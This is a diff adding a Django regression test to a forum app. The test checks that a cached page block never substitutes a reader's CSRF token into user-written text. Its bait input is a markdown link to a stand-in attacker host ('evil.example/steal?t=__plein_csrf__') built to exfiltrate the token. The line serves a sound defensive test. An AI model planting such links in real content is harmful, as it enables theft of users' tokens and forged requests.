@@ -489,3 +489,35 @@ def test_next_addresses_elsewhere_are_ignored_after_a_form(
         )
     assert response["Location"] == topic.get_absolute_url()
     assert Notification.objects.filter(recipient=expert, kind="answer_request").exists()
+
+
+def test_a_planted_csrf_placeholder_never_carries_a_readers_token(space, asker):
+    """The shared answers block stands in for each reader's CSRF token: text in an answer or a
+    comment that spells the stand-in (the old fixed one or anything like it) stays text, and
+    no reader's token is written into someone's link."""
+    import re
+
+    from django.test import Client
+
+    topic = a_question(space, asker)
+    planter = MembershipFactory(space=space).user
+    reader = MembershipFactory(space=space).user
+    bait = "[mijn bron](https://evil.example/steal?t=__plein_csrf__) __plein_csrf__"
+    answer = services.answer(author=planter, topic=topic, body=bait)
+    services.comment(author=planter, topic=topic, body=bait)
+    services.comment(author=planter, topic=topic, body=bait, answer_id=answer.pk)
+    client = Client(enforce_csrf_checks=True)
+    client.force_login(reader)
+    for _ in range(2):  # rendered for the block, then served from the cache
+        page = client.get(topic.get_absolute_url()).content.decode()
+        token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
+        assert "__plein_csrf__" in page  # the text as written, shown as text
+        fields = page.count(f'name="csrfmiddlewaretoken" value="{token}"')
+        assert fields >= 1
+        # The token only in form fields and the page's htmx header, never in a link or text.
+        assert page.count(token) == fields + page.count(f'"X-CSRFToken": "{token}"')
+        assert not re.search(rf"href=\"[^\"]*{re.escape(token)}", page)
+    voted = client.post(
+        reverse("forums:vote", args=[answer.pk]), {"value": "1", "csrfmiddlewaretoken": token}
+    )
+    assert voted.status_code == 302
